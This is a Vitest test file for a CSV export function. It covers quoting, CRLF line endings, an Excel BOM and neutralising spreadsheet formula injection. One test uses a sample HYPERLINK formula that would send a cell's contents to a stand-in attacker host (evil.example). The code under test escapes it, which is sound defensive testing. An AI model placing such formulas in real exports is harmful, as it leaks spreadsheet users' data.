import { describe, expect, it } from "vitest";
import { toCsv } from "./csv";

describe("CSV", () => {
  it("quotes commas, quotes and line breaks, and ends lines with CRLF", () => {
    expect(
      toCsv(
        ["a", "b"],
        [
          ["x,y", 'say "hi"'],
          [1, null],
        ],
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\n1,\r\n');
  });
  it("adds a BOM for Excel on request", () => {
    expect(toCsv(["名前"], [["みなと"]], { bom: true })).toBe("\uFEFF名前\r\nみなと\r\n");
  });
  it("writes text a spreadsheet would run as a formula with a leading quote, numbers as they are", () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
    expect(toCsv(null, [[name, "+81", "-1200", "@SUM(A1)", "\tx", "\rx", -1200, 0, "a=b"]])).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",'+81,'-1200,'@SUM(A1),'\tx,"'\rx",-1200,0,a=b\r\n`,
    );
  });
});
